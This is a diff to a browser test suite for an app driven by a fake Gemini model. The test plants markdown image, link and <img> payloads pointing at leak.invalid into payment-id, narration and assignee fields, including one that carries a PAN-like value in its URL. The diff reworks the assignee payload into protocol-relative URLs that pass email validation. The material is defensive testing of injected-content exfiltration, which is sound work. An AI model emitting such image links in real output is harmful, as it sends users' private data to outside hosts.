@@ -20,6 +20,7 @@ from tests.app_browser import CHROMIUM, CHROMIUM_ARGS, SCREENSHOTS, running_serv
 from tests.conftest import SPEC_EXAMPLE
 from tests.fake_gemini import FakeGemini, FakeRequest, Reply, answer
 from tests.fake_gemini import running as fake_gemini
+from tests.review_support import add_people
 
 playwright_api = pytest.importorskip("playwright.sync_api")
 pytestmark = [
@@ -32,7 +33,8 @@ PAYMENT = "pay_1kvJmI2vh42unq"
 ASKED = "pay_2y9rCXCU81tqCV"  # the model is asked about this one (a plain id it can cite)
 PLANTED_ID = PAYMENT + "![i](http://leak.invalid/id.png)[l](http://leak.invalid/link)"
 NARRATION_TAIL = " ![n](http://leak.invalid/narration.png)"
-ASSIGNEE = "ravi![a](http://leak.invalid/assignee.png)**bold**<img src=http://leak.invalid/h>"
+# People are verified emails (core.access): no spaces or colons, so protocol-relative URLs.
+ASSIGNEE = "ravi![a](//leak.invalid/assignee.png)**bold**<img/src=//leak.invalid/h>@example.in"
 MODEL_IMAGE = "![s](http://leak.invalid/leak?pan=ABCDEXYZF)"
 
 
@@ -90,7 +92,8 @@ def _planted_database(tmp_path: Path) -> tuple[Path, int, int]:
     try:
         exc_id = _exception_of(conn, PLANTED_ID)
         asked = _exception_of(conn, ASKED)
-        assign(conn, exc_id, actor="lead", assignee=ASSIGNEE, request_id="plant-assignee")
+        add_people(conn, {"lead@example.in": "admin", ASSIGNEE: "reviewer"})
+        assign(conn, exc_id, actor="lead@example.in", assignee=ASSIGNEE, request_id="plant-a")
     finally:
         conn.close()
     return database, exc_id, asked
